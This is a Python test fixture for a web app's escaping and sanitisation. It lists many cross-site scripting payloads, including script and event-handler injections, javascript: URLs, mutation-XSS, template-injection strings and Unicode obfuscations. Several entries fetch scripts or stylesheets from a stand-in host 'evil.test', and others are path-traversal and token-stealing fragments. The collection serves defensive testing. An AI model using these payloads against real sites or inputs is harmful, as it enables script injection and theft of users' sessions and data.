"""What a stranger writes where a name belongs, hoping that some page takes it for more than a name.

Each one would call `alert`, set ``window.hacked``, leave the page or ask another server, if it were anything but text:
as markup, in an attribute, in a script, in a template, in a stylesheet, as an address, or as the name of a member.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onpageshow=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import'//evil.test';</style>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "];alert(1);//\u2028\u2029';alert(1)//",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
)
"""The first, which stand on every page of the server's own as well."""

ELEMENTS = (
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)></script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script type=module>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) onbegin=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<img src=x onerror=window.hacked=1>",
    "<img srcset=x onerror=alert(1)>",
    "<img src=x:x onerror&#61;alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=//evil.test/x.png>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=prefetch href=//evil.test/>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1) autofocus>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div tabindex=0 autofocus onfocus=alert(1)>x</div>",
    "<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p autofocus>x</button>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<p style=transition:1ms onclick=alert(1) ontransitionend=alert(1)>x</p>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<slot onslotchange=alert(1)><b>x</b></slot>",
    "<isthmus-install server=//evil.test project=x integration=x group-ref=x consumer-ref=x></isthmus-install>",
    "<iframe src=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
)
"""Elements that run something, or fetch it."""

MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "</textarea></select></option><img src=x onerror=alert(1)>",
    "</style></template></noscript><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
)
"""Markup that changes its meaning when it is read a second time, and text that becomes markup when it is decoded once
more than it should be."""

TEMPLATES = (
    "${alert(1)}",
    "`;alert(1);`",
    "`-window.hacked=1-`",
    "'-window.hacked=1-'",
    '"-window.hacked=1-"',
    "\\'-alert(1)//",
    "\\`${alert(1)}",
    "{{alert(1)}}",
    "{{7*7}}{% include 'x' %}<%= 7*7 %>#{7*7}",
    "{{_self.env.display('x')}}",
    "${{<%[%'\"}}%\\",
    "%(name)s {0.__class__} %n%s",
    "lit$",
    "lit$000000000$",
    "<!--?lit$000000000$-->",
    "?lit$000000000$<img src=x onerror=alert(1)>",
    "<!----><img src=x onerror=alert(1)><!--?-->",
    "{{lit-000000000}}",
    "@click=${alert(1)}",
    ".innerHTML=<img src=x onerror=alert(1)>",
    "{provider}{count}{names}",
    "$&$1$`$'",
)
"""Expressions of templates, their own marks, and what `String.replace` reads in a replacement."""

ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    " onfocus=alert(1) autofocus x=",
    '"/><script>alert(1)</script>',
    '" style="background:url(//evil.test/x.png)',
    "x onerror=alert(1)",
    "isthmus-0 isthmus-heading",
)
"""For a place within a tag."""

ADDRESSES = (
    "javascript:window.hacked=1",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:null/alert(1)",
    "//evil.test/x",
    "../../../v1/projects",
    "?groupRef=other#token=stolen",
)

STYLES = (
    "</style><img src=x onerror=alert(1)>",
    "};*{background:url(//evil.test/x.png)}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "red;background-image:url(//evil.test/x.png)",
    "@import url(//evil.test/x.css);",
)

ODD = (
    "__proto__",
    "constructor",
    "toString",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bfimg src=x onerror=alert(1)\u02be",
    "<\u0130mg src=x onerror=alert(1)>",
    "<img src=x \u017fonerror=alert(1)>",
    "\u202e>)1(trela=rorreno x=crs gmi<",
    "\u200b<\u200bscript\u200b>alert(1)",
    "a\u0300\u0301\u0302<svg/onload=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>".replace("\u0000", "\u00ad"),
    "\U0001f4a9<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u05e9\u05dc\u05d5\u05dd (2)",
)
"""Names of members, letters that become others, and marks that turn or hide what stands beside them."""

PAYLOADS = (*MARKUP, *ELEMENTS, *MUTATIONS, *TEMPLATES, *ATTRIBUTES, *ADDRESSES, *STYLES, *ODD)
"""All of them; no two are the same."""
